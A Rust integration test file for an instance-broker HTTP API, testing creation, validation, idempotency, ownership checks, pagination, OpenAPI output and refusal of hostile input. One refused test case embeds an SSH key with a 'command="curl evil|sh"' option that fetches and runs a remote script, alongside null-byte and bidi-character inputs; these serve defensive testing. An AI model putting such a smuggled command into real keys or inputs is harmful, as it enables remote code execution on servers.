//! The instances API over HTTP against the real actix app and a real Postgres.

use crate::common::{exchange, Jobs, TestBroker, TestDb, ED25519};
use cloudbrain::auth::Scope;
use cloudbrain::broker::State;
use cloudbrain::queue::JobKind;
use serde_json::{json, Value};

/// The API with provider `fake` offering `standard` (its default) and `premium`; nothing
/// runs the jobs.
async fn setup() -> TestBroker {
    TestBroker::new()
        .fake(json!({"instance_types": ["standard", "premium"]}))
        .api_only()
        .start()
        .await
}

/// The ids of a list of instances.
fn ids(list: &Value) -> Vec<String> {
    let instances = list["instances"].as_array().unwrap();
    instances
        .iter()
        .map(|i| i["id"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test]
async fn create_records_the_instance_and_its_job_at_once() {
    let s = setup().await;
    let response = s
        .app
        .post("/instances", &s.token)
        .json(&json!({"provider": "fake", "image": "ubuntu-24.04", "public_ssh_key": ED25519, "extra": {"ignored": true}}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let location = response.headers()["location"].to_str().unwrap().to_owned();
    let body: Value = response.json().await.unwrap();
    let id = body["id"].as_str().unwrap();
    assert_eq!(location, format!("/instances/{id}"));
    assert_eq!(body["provider"], "fake");
    assert_eq!(body["image"], "ubuntu-24.04");
    assert_eq!(body["instance_type"], "standard");
    assert_eq!(body["state"], "creating");
    for field in ["ip_address", "upstream_id", "error_reason"] {
        assert!(body[field].is_null(), "{field}: {body}");
    }
    assert!(body["created_at"].is_string() && body["updated_at"].is_string());
    let create = Jobs::OfKind(id, JobKind::CreateInstance);
    assert_eq!(s.db.count_jobs(create).await, 1);
    assert_eq!(s.client().get(&location).await.expect(200), body);
}

#[tokio::test]
async fn bad_requests_get_clear_errors_naming_the_field() {
    let s = setup().await;
    let long_image = "i".repeat(256);
    let cases: Vec<Value> = vec![
        json!({"image": "ubuntu"}),
        json!({"provider": "", "image": "ubuntu"}),
        json!({"provider": "fake"}),
        json!({"provider": "fake", "image": "  "}),
        json!({"provider": "fake", "image": 7}),
        json!({"provider": "fake", "image": null}),
        json!({"provider": "fake", "image": "ubuntu", "instance_type": 5}),
        json!({"provider": "nowhere", "image": "ubuntu"}),
        json!({"provider": "fake", "image": "ubuntu", "instance_type": "gpu"}),
        json!({"provider": "fake", "image": long_image}),
        json!({"provider": "fake", "image": "ubuntu\u{1b}[31m"}),
        json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": "not a key"}),
        json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("{ED25519}\n{ED25519}")}),
        json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("command=\"curl evil|sh\" {ED25519}")}),
        json!(["provider", "fake"]),
    ];
    let post = || s.app.post("/instances", &s.token);
    let mut seen = String::new();
    for body in cases {
        let shown = body.to_string().replace(&long_image, "i × 256");
        let asked = format!("POST /instances {shown}");
        seen += &exchange(&asked, post().json(&body)).await;
    }
    let truncated = post()
        .header("content-type", "application/json")
        .body("{\"provider\": ");
    seen += &exchange("POST /instances {\"provider\": ", truncated).await;
    let huge = json!({"provider": "fake", "image": "ubuntu", "padding": "x".repeat(70 * 1024)});
    seen += &exchange("POST /instances (70 KiB)", post().json(&huge)).await;
    insta::assert_snapshot!(seen);

    let rows = s.db.count_instances(None).await;
    assert_eq!(rows, 0, "a refused request left a row");
    assert_eq!(s.db.count_jobs(Jobs::All).await, 0);
}

#[tokio::test]
async fn idempotency_key_replays_the_same_instance_and_refuses_another_body() {
    let s = setup().await;
    let client = s.client();
    let body = json!({"provider": "fake", "image": "ubuntu", "instance_type": "premium"});
    let mut ids = Vec::new();
    for _ in 0..3 {
        let made = client.post_keyed("/instances", "job-1234", &body).await;
        ids.push(made.expect(200)["id"].clone());
    }
    assert!(ids.iter().all(|id| *id == ids[0]), "{ids:?}");

    let other = json!({"provider": "fake", "image": "debian", "instance_type": "premium"});
    let refused = client.post_keyed("/instances", "job-1234", &other).await;
    assert_eq!(refused.expect(409)["field"], "Idempotency-Key");

    // The same key from another token is another request.
    let another = s.client_with(Scope::Client).await;
    let theirs = another.post_keyed("/instances", "job-1234", &body).await;
    assert_ne!(theirs.expect(200)["id"], ids[0]);

    assert_eq!(s.db.count_instances(None).await, 2);
    assert_eq!(s.db.count_jobs(Jobs::All).await, 2);
}

#[tokio::test]
async fn concurrent_requests_with_one_idempotency_key_make_one_instance() {
    let s = setup().await;
    let client = s.client();
    let body = json!({"provider": "fake", "image": "ubuntu"});
    let requests = (0..8).map(|_| client.post_keyed("/instances", "burst", &body));
    let answers = futures_util::future::join_all(requests).await;
    let ids: std::collections::HashSet<String> = answers
        .into_iter()
        .map(|answer| answer.expect(200)["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(ids.len(), 1);
    assert_eq!(s.db.count_jobs(Jobs::All).await, 1);
}

#[tokio::test]
async fn instances_are_visible_to_their_owner_and_admins_only() {
    let s = setup().await;
    let (owner, admin) = (s.client(), s.client_with(Scope::Admin).await);
    let other = s.client_with(Scope::Client).await;
    let id = s.create("ubuntu").await;
    let path = format!("/instances/{id}");

    owner.get(&path).await.expect(200);
    admin.get(&path).await.expect(200);
    let hidden = other.get(&path).await.expect(404);
    let unknown = owner
        .get(&format!("/instances/{}", uuid::Uuid::new_v4()))
        .await;
    // No existence oracle: someone else's instance looks exactly like no instance.
    assert_eq!(hidden, unknown.expect(404));
    owner.get("/instances/not-a-uuid").await.expect(404);
    other.delete(&path).await.expect(404);
    other.get(&format!("{path}/events")).await.expect(404);
    let untouched = owner.get(&path).await;
    assert_eq!(untouched.status, 200, "other's delete must not touch it");
}

#[tokio::test]
async fn reads_at_once_each_get_their_own_instance_and_see_every_write_made_before_them() {
    use futures_util::future::{join, join_all};
    let s = setup().await;
    let stranger = s.client_with(Scope::Client).await;
    let mut mine = Vec::new();
    for i in 0..12 {
        mine.push((s.create(&format!("image-{i}")).await, format!("image-{i}")));
    }
    let (owner, stranger) = (&s.client(), &stranger);
    let unknown = &format!("/instances/{}", uuid::Uuid::new_v4());
    // Forty-eight reads at once: many share a statement, and each answer is its own.
    let owned = mine.iter().map(|(id, image)| async move {
        let body = owner.get(&format!("/instances/{id}")).await.expect(200);
        let read = (body["id"].as_str(), body["image"].as_str());
        assert_eq!(read, (Some(id.as_str()), Some(image.as_str())));
    });
    let refused = mine.iter().map(|(id, _)| async move {
        stranger.get(&format!("/instances/{id}")).await.expect(404);
        owner.get(unknown).await.expect(404);
        stranger.get(unknown).await.expect(404);
    });
    join(join_all(owned), join_all(refused)).await;

    // While others keep reading, a read that follows a delete sees it.
    let busy = std::sync::atomic::AtomicBool::new(true);
    let background = async {
        let mut reads = 0;
        while busy.load(std::sync::atomic::Ordering::SeqCst) {
            let batch = mine.iter().map(|(id, _)| {
                let path = format!("/instances/{id}");
                async move { owner.get(&path).await }
            });
            for answer in join_all(batch).await {
                answer.expect(200);
                reads += 1;
            }
        }
        reads
    };
    let deletes = async {
        for (id, _) in &mine {
            s.delete(id).await.expect(200);
            let body = owner.get(&format!("/instances/{id}")).await.expect(200);
            assert_eq!(
                body["state"], "terminating",
                "a read after the delete answered from before it"
            );
        }
        busy.store(false, std::sync::atomic::Ordering::SeqCst);
    };
    let (reads, ()) = join(background, deletes).await;
    assert!(
        reads >= mine.len(),
        "the reads alongside the deletes did not run"
    );
}

#[tokio::test]
async fn delete_terminates_once_and_drops_the_unclaimed_create_job() {
    let s = setup().await;
    let id = s.create("ubuntu").await;
    let path = format!("/instances/{id}");

    let first = s.delete(&id).await.expect(200);
    assert_eq!(first["state"], "terminating");
    assert_eq!(s.delete(&id).await.expect(200), first);

    let jobs = |kind| s.db.count_jobs(Jobs::OfKind(&id, kind));
    let creates = jobs(JobKind::CreateInstance).await;
    assert_eq!(creates, 0, "nobody had claimed the create job");
    let removes = jobs(JobKind::RemoveInstance).await;
    assert_eq!(removes, 1, "a repeated delete enqueued again");

    assert_eq!(
        s.moves(&id).await,
        vec![
            (Value::Null, json!("creating")),
            (json!("creating"), json!("terminating"))
        ]
    );

    // Once terminated, GET and DELETE answer 410 with the instance.
    s.db.force_state(&id, State::Terminated).await;
    for answer in [s.client().get(&path).await, s.delete(&id).await] {
        let body = answer.expect(410);
        assert_eq!(body["id"], id.as_str());
        assert_eq!(body["state"], "terminated");
    }
    assert_eq!(jobs(JobKind::RemoveInstance).await, 1);
}

#[tokio::test]
async fn delete_keeps_a_create_job_a_worker_holds() {
    let s = setup().await;
    let id = s.create("ubuntu").await;
    s.db.lease_jobs(&id, "worker-1").await;
    s.delete(&id).await.expect(200);
    let kinds = s.db.count_jobs(Jobs::Of(&id)).await;
    assert_eq!(kinds, 2, "the running create job and the new remove job");
}

#[tokio::test]
async fn list_pages_through_everything_newest_first() {
    let s = setup().await;
    let (client, admin) = (s.client(), s.client_with(Scope::Admin).await);
    let other = s.client_with(Scope::Client).await;
    let mut made = Vec::new();
    for i in 0..25 {
        made.push(s.create(&format!("image-{i}")).await);
    }
    other
        .post(
            "/instances",
            &json!({"provider": "fake", "image": "theirs"}),
        )
        .await
        .expect(200);

    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    let mut pages = 0;
    loop {
        let mut path = "/instances?limit=10".to_owned();
        if let Some(c) = &cursor {
            path.push_str(&format!("&cursor={c}"));
        }
        let page = client.get(&path).await.expect(200);
        pages += 1;
        seen.extend(ids(&page));
        match page["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => break,
        }
    }
    assert_eq!(pages, 3);
    made.reverse();
    assert_eq!(
        seen, made,
        "every instance once, newest first, none of another token's"
    );

    let all = admin.get("/instances?limit=1000").await.expect(200);
    assert_eq!(ids(&all).len(), 26);
    assert!(all["next_cursor"].is_null());

    s.delete(&made[0]).await.expect(200);
    let listed = async |path: &str| ids(&client.get(path).await.expect(200)).len();
    assert_eq!(listed("/instances?state=terminating").await, 1);
    assert_eq!(listed("/instances?provider=elsewhere").await, 0);
    let default = admin.get("/instances").await.expect(200);
    assert_eq!(ids(&default).len(), 26);

    for (query, field) in [
        ("limit=0", "limit"),
        ("limit=1001", "limit"),
        ("limit=ten", "limit"),
        ("state=sleeping", "state"),
        ("cursor=bogus", "cursor"),
    ] {
        let refused = client.get(&format!("/instances?{query}")).await;
        assert_eq!(refused.expect(422)["field"], field, "{query}");
    }
}

#[tokio::test]
async fn providers_are_listed_without_configuration() {
    let s = setup().await;
    let app = &s.app;
    app.provider("fake-slow", json!({"boot_time_ms": 60000, "seed": 99}))
        .await;
    let body = s.client().get("/providers").await.expect(200);
    let listed = |name: &str| json!({"name": name, "type": "fake", "max_lifetime_secs": null, "fallbacks": []});
    assert_eq!(
        body,
        json!({"providers": [listed("fake"), listed("fake-slow")]})
    );
    assert_eq!(app.anonymous_status("/providers").await, 401);
}

#[tokio::test]
async fn service_routes_unknown_routes_and_wrong_methods_answer_json() {
    let s = setup().await;
    let app = &s.app;
    assert_eq!(app.anonymous_status("/healthz").await, 200);
    assert_eq!(app.anonymous_status("/readyz").await, 200);
    let version: Value = app
        .client
        .get(app.url("/version"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(version["version"], env!("CARGO_PKG_VERSION"));

    let nowhere = s.client().get("/nowhere").await.expect(404);
    assert!(nowhere["errors"].is_array());
    // 405 says what the route answers.
    for (method, path, allow) in [
        (reqwest::Method::PUT, "/instances", "GET, POST"),
        (reqwest::Method::POST, "/instances/x", "GET, DELETE"),
        (reqwest::Method::PATCH, "/instances/x", "GET, DELETE"),
        (reqwest::Method::DELETE, "/healthz", "GET"),
        (reqwest::Method::POST, "/healthz", "GET"),
        (reqwest::Method::PATCH, "/providers", "GET"),
    ] {
        let response = app
            .client
            .request(method.clone(), app.url(path))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 405, "{method} {path}");
        assert_eq!(response.headers()["allow"], allow, "{method} {path}");
        assert!(response.json::<Value>().await.unwrap()["errors"].is_array());
    }

    let echoed = app
        .client
        .get(app.url("/healthz"))
        .header("X-Request-ID", "req-abc-123")
        .send()
        .await
        .unwrap();
    assert_eq!(echoed.headers()["x-request-id"], "req-abc-123");
    let generated = app.client.get(app.url("/nowhere")).send().await.unwrap();
    let id = generated.headers()["x-request-id"].to_str().unwrap();
    assert!(uuid::Uuid::parse_str(id).is_ok(), "{id}");
}

#[tokio::test]
async fn openapi_document_describes_every_route_and_error() {
    let s = setup().await;
    let app = &s.app;
    let doc: Value = app
        .client
        .get(app.url("/openapi.json"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(
        doc["openapi"].as_str().unwrap().starts_with("3.1"),
        "{}",
        doc["openapi"]
    );
    let paths = doc["paths"].as_object().unwrap();
    for (path, methods) in [
        ("/instances", &["post", "get"][..]),
        ("/instances/{id}", &["get", "delete"]),
        ("/instances/{id}/events", &["get"]),
        ("/providers", &["get"]),
        ("/healthz", &["get"]),
        ("/readyz", &["get"]),
        ("/version", &["get"]),
        ("/openapi.json", &["get"]),
    ] {
        for method in methods {
            assert!(paths[path][method].is_object(), "{method} {path} missing");
        }
    }
    let post = &paths["/instances"]["post"]["responses"];
    for status in [
        "200", "400", "401", "408", "409", "413", "415", "422", "429", "503",
    ] {
        assert!(post[status].is_object(), "POST /instances lacks {status}");
    }
    assert!(paths["/instances/{id}"]["get"]["responses"]["410"].is_object());
    // It states what the server enforces: the registered providers and their types, the
    // patterns and ranges.
    let body = &doc["components"]["schemas"]["CreateInstanceBody"];
    assert_eq!(body["properties"]["provider"]["enum"], json!(["fake"]));
    // With no pool, a request names a provider and an image: `{}` is refused, and the
    // document says so.
    assert_eq!(body["anyOf"][0]["required"], json!(["provider", "image"]));
    assert_eq!(body["anyOf"].as_array().unwrap().len(), 1);
    let refused = s.client().post("/instances", &json!({})).await.expect(422);
    assert_eq!(refused["field"], "provider");
    assert_eq!(body["anyOf"][0]["properties"]["provider"]["const"], "fake");
    assert_eq!(
        body["anyOf"][0]["properties"]["instance_type"]["anyOf"][1]["enum"],
        json!(["", "default", "premium", "standard"])
    );
    assert!(body["properties"]["image"]["pattern"].is_string());
    assert!(body["properties"]["public_ssh_key"]["anyOf"][2]["pattern"]
        .as_str()
        .unwrap()
        .contains("ssh-ed25519"));
    let list = paths["/instances"]["get"]["parameters"].as_array().unwrap();
    let param = |name: &str| list.iter().find(|p| p["name"] == name).unwrap()["schema"].clone();
    assert_eq!(
        param("limit"),
        json!({"type": "integer", "minimum": 1, "maximum": 1000})
    );
    assert_eq!(param("state")["enum"].as_array().unwrap().len(), 6);
    assert!(param("cursor")["pattern"].is_string());
    let schemas = doc["components"]["schemas"].as_object().unwrap();
    for name in [
        "InstanceBody",
        "CreateInstanceBody",
        "ErrorBody",
        "InstanceList",
        "EventList",
    ] {
        assert!(schemas.contains_key(name), "schema {name} missing");
    }
}

#[tokio::test]
async fn default_empty_or_absent_instance_type_is_the_providers_default() {
    let s = setup().await;
    s.app
        .provider(
            "fake-premium",
            json!({"instance_types": ["standard", "premium"], "default_instance_type": "premium"}),
        )
        .await;
    for (provider, expected) in [("fake", "standard"), ("fake-premium", "premium")] {
        for body in [
            json!({"provider": provider, "image": "ubuntu"}),
            json!({"provider": provider, "image": "ubuntu", "instance_type": ""}),
            json!({"provider": provider, "image": "ubuntu", "instance_type": "default"}),
            json!({"provider": provider, "image": "ubuntu", "instance_type": null, "public_ssh_key": ""}),
        ] {
            let created = s.client().post("/instances", &body).await.expect(200);
            assert_eq!(created["instance_type"], expected, "{body}");
        }
    }
}

/// A cursor shaped as the server makes one (`<micros>.<uuid>`), for any instant.
fn forged_cursor(micros: i64) -> String {
    format!("{micros}.{}", uuid::Uuid::new_v4())
}

#[tokio::test]
async fn hostile_input_gets_a_clean_4xx_never_a_500() {
    let s = setup().await;
    let (app, token) = (&s.app, &s.token);
    s.create("ubuntu").await;
    let year = 365 * 24 * 3600 * 1_000_000_i64;
    let queries = [
        ("?provider=%00".to_owned(), 422, "provider"),
        ("?provider=fa%00ke".to_owned(), 422, "provider"),
        ("?provider=%E2%80%AEekaf".to_owned(), 422, "provider"),
        ("?state=%00".to_owned(), 422, "state"),
        ("?limit=%00".to_owned(), 422, "limit"),
        ("?cursor=%00".to_owned(), 422, "cursor"),
        (
            format!("?cursor={}", forged_cursor(-102_000 * year)),
            422,
            "cursor",
        ),
        (
            format!("?cursor={}", forged_cursor(250_000 * year)),
            422,
            "cursor",
        ),
    ];
    for (query, status, field) in queries {
        let refused = s.client().get(&format!("/instances{query}")).await;
        assert_eq!(refused.expect(status)["field"], field, "{query}");
    }

    let bodies = [
        (
            r#"{"provider": "fake", "image": "ubu\u0000ntu"}"#,
            422,
            Some("image"),
        ),
        (
            r#"{"provider": "fa\u0000ke", "image": "ubuntu"}"#,
            422,
            Some("provider"),
        ),
        (
            r#"{"provider": "fake", "image": "ubuntu", "instance_type": "\u0000"}"#,
            422,
            Some("instance_type"),
        ),
        (
            r#"{"provider": "fake", "image": "ubuntu\u202e"}"#,
            422,
            Some("image"),
        ),
        (
            r#"{"provider": "fake", "image": "\u2066ubuntu"}"#,
            422,
            Some("image"),
        ),
        (
            r#"{"provider": "fake", "image": "ubuntu", "image": "debian"}"#,
            400,
            None,
        ),
        (
            r#"{"provider": "fake", "image": "ubuntu", "x": {"a": 1, "a": 2}}"#,
            400,
            None,
        ),
    ];
    for (body, status, field) in bodies {
        let response = app
            .post("/instances", token)
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), status, "{body}");
        let error: Value = response.json().await.unwrap();
        assert_eq!(error["field"].as_str(), field, "{body}: {error}");
    }

    // Only JSON, or nothing said at all (Travis CI's worker says nothing).
    let json_body = r#"{"provider": "fake", "image": "ubuntu"}"#;
    for (content_type, status) in [
        (Some("text/plain"), 415),
        (Some("application/x-www-form-urlencoded"), 415),
        (Some("multipart/form-data; boundary=x"), 415),
        (Some("application/json; charset=utf-8"), 200),
        (Some("application/merge-patch+json"), 200),
        (None, 200),
    ] {
        let mut request = app.post("/instances", token).body(json_body);
        if let Some(content_type) = content_type {
            request = request.header("content-type", content_type);
        }
        let response = request.send().await.unwrap();
        assert_eq!(response.status().as_u16(), status, "{content_type:?}");
        if status == 415 {
            let error: Value = response.json().await.unwrap();
            assert_eq!(error["code"], "unsupported_media_type");
        }
    }

    // Two Authorization headers: which one counts would be a guess.
    let response = app
        .client
        .get(app.url("/instances"))
        .header("authorization", format!("token {token}"))
        .header("authorization", "token 1-00000000000000000000000000000000")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 401);
}

#[tokio::test]
async fn a_body_that_stalls_mid_upload_is_a_408() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let s = setup().await;
    let (app, token) = (&s.app, &s.token);
    let mut stream = tokio::net::TcpStream::connect(app.base.trim_start_matches("http://"))
        .await
        .unwrap();
    let head = format!(
        "POST /instances HTTP/1.1\r\nHost: x\r\nAuthorization: token {token}\r\nContent-Length: 100\r\n\r\n{{\"provider\":"
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    tokio::time::timeout(
        std::time::Duration::from_secs(10),
        stream.read_to_end(&mut answer),
    )
    .await
    .expect("the server waited on the stalled body for ever")
    .unwrap();
    let answer = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("request_timeout"), "{answer}");
}

#[tokio::test]
async fn a_stored_state_or_scope_nobody_knows_is_a_load_error_not_a_guess() {
    use cloudbrain::auth::Scope;
    use cloudbrain::broker::State;
    use diesel_async::RunQueryDsl;
    #[derive(diesel::QueryableByName, Debug)]
    struct Row {
        #[diesel(sql_type = diesel::sql_types::Text)]
        state: State,
        #[diesel(sql_type = diesel::sql_types::Text)]
        scope: Scope,
    }
    let db = TestDb::new().await;
    let mut conn = db.conn().await;
    let known: Row = diesel::sql_query("SELECT 'running' AS state, 'admin' AS scope")
        .get_result(&mut conn)
        .await
        .unwrap();
    assert_eq!((known.state, known.scope), (State::Running, Scope::Admin));
    for sql in [
        "SELECT 'stopped' AS state, 'admin' AS scope",
        "SELECT 'running' AS state, 'root' AS scope",
    ] {
        let read = diesel::sql_query(sql).get_result::<Row>(&mut conn).await;
        assert!(read.is_err(), "{sql}: {read:?}");
    }
}

#[tokio::test]
async fn requests_read_what_a_provider_offers_without_opening_its_sealed_config() {
    let s = setup().await;
    // Break the seal: a request that opened it would fail.
    let mut conn = s.db.conn().await;
    crate::common::exec(&mut conn, "UPDATE providers SET config = '\\x00'::bytea").await;
    let client = s.client();
    let ask = async |instance_type: &str| {
        let body = json!({"provider": "fake", "image": "ubuntu", "instance_type": instance_type});
        client.post("/instances", &body).await
    };
    let made = ask("premium").await.expect(200);
    assert_eq!(made["instance_type"], "premium", "{made}");
    ask("huge").await.expect(422);
    let types = client.get("/openapi.json").await.expect(200);
    assert!(
        types.to_string().contains("premium"),
        "the offer is published"
    );
}

#[tokio::test]
async fn a_request_goes_by_what_its_provider_offers_now_though_another_process_changed_it() {
    // The http process remembers what `fake` offers for `ubuntu` after the first request;
    // every change below is made on another connection, as another process makes it.
    let s = setup().await;
    let client = s.client();
    let ask = async || {
        let body = json!({"provider": "fake", "image": "ubuntu"});
        client.post("/instances", &body).await.expect(200)
    };
    let made = ask().await;
    assert_eq!(made["instance_type"], "standard");
    assert_eq!(ask().await["instance_type"], "standard");

    let mut conn = s.db.conn().await;
    let config =
        json!({"instance_types": ["standard", "premium"], "default_instance_type": "premium"});
    cloudbrain::broker::providers::update_provider(
        &mut conn,
        &crate::common::key(),
        "fake",
        &config,
    )
    .await
    .unwrap();
    assert_eq!(ask().await["instance_type"], "premium", "the new default");

    // A pool of that shape, made elsewhere, takes the next request; deleted, it no longer
    // does.
    crate::common::exec(
        &mut conn,
        "INSERT INTO pools (name, provider_name, image, instance_type, min_idle, max_size) \
         VALUES ('ci', 'fake', 'ubuntu', 'premium', 0, 5)",
    )
    .await;
    let pool_of = async |made: Value| s.row(made["id"].as_str().unwrap()).await.pool_name;
    assert_eq!(pool_of(ask().await).await.as_deref(), Some("ci"));
    assert_eq!(pool_of(ask().await).await.as_deref(), Some("ci"));
    crate::common::exec(&mut conn, "DELETE FROM pools WHERE name = 'ci'").await;
    let unpooled = ask().await;
    assert_eq!(unpooled["instance_type"], "premium");
    assert_eq!(pool_of(unpooled).await, None);

    // Nothing was written twice, nothing lost: one instance and one job per answer.
    assert_eq!(s.db.count_instances(None).await, 6);
    assert_eq!(s.db.count_jobs(Jobs::All).await, 6);
}

#[tokio::test]
async fn a_provider_registered_before_offers_were_stored_gets_its_offer_on_first_use() {
    let s = setup().await;
    let mut conn = s.db.conn().await;
    crate::common::exec(&mut conn, "UPDATE providers SET offer = NULL").await;
    let id = s.create("ubuntu").await;
    assert_eq!(s.row(&id).await.instance_type, "standard");
    let offer = crate::common::text(&mut conn, "SELECT offer::text AS v FROM providers").await;
    let offer: Value = serde_json::from_str(&offer.unwrap()).unwrap();
    assert_eq!(offer["instance_types"], json!(["standard", "premium"]));
    assert_eq!(offer["default_instance_type"], "standard");
}

#[tokio::test]
async fn every_refusal_says_what_is_wrong_in_cloud_brains_envelope() {
    let s = setup().await;
    let (app, token) = (&s.app, &s.token);
    let unknown = "00000000-0000-4000-8000-000000000000";
    let body = json!({"provider": "fake", "image": "ubuntu"});
    let mut seen = String::new();
    seen += &exchange(
        "GET /instances (no token)",
        app.client.get(app.url("/instances")),
    )
    .await;
    seen += &exchange(
        "GET /instances (token 1-wrong)",
        app.get("/instances", "1-00000000000000000000000000000000"),
    )
    .await;
    let unknown = format!("/instances/{unknown}");
    let refused_gets = [
        unknown.as_str(),
        "/instances/not-a-uuid",
        "/instances?limit=0",
        "/instances?state=stopped",
        "/instances?cursor=x",
    ];
    for path in refused_gets {
        seen += &exchange(&format!("GET {path}"), app.get(path, token)).await;
    }
    seen += &exchange(
        "PUT /instances",
        app.client
            .put(app.url("/instances"))
            .header("Authorization", format!("token {token}")),
    )
    .await;
    seen += &exchange(
        "POST /instances (Content-Type: text/plain)",
        app.post("/instances", token)
            .header("content-type", "text/plain")
            .body(body.to_string()),
    )
    .await;
    let keyed = |image: &str| {
        app.post("/instances", token)
            .header("Idempotency-Key", "build-1")
            .json(&json!({"provider": "fake", "image": image}))
    };
    keyed("ubuntu").send().await.unwrap();
    seen += &exchange(
        "POST /instances (Idempotency-Key build-1, another body)",
        keyed("debian"),
    )
    .await;
    insta::assert_snapshot!(seen);
}

#[tokio::test]
async fn an_instance_expires_when_asked_or_after_the_longest_lifetime() {
    let s = setup().await;
    let client = s.client();
    let ask = async |ttl: Value| {
        let body = json!({"provider": "fake", "image": "ubuntu", "ttl_seconds": ttl});
        client.post("/instances", &body).await
    };
    let lifetime = |body: &Value| {
        let at = |field: &str| {
            chrono::DateTime::parse_from_rfc3339(body[field].as_str().unwrap()).unwrap()
        };
        (at("expires_at") - at("created_at")).num_seconds()
    };
    assert_eq!(lifetime(&ask(json!(600)).await.expect(200)), 600);
    assert_eq!(lifetime(&ask(json!(10_800)).await.expect(200)), 10_800);
    // JSON Schema counts 600.0 an integer, and so does the parser.
    assert_eq!(lifetime(&ask(json!(600.0)).await.expect(200)), 600);
    // Travis CI's worker asks for no lifetime: the broker's longest, 3 h by default.
    assert_eq!(lifetime(&ask(Value::Null).await.expect(200)), 10_800);
    for ttl in [json!(0), json!(10_801), json!(-5), json!(1.5), json!("600")] {
        let refused = ask(ttl.clone()).await.expect(422);
        assert_eq!(refused["field"], "ttl_seconds", "{ttl}: {refused}");
    }
    let doc = client.get("/openapi.json").await.expect(200);
    let ttl = &doc["components"]["schemas"]["CreateInstanceBody"]["properties"]["ttl_seconds"];
    assert_eq!(ttl["anyOf"][1]["maximum"], 10_800, "{ttl}");
}
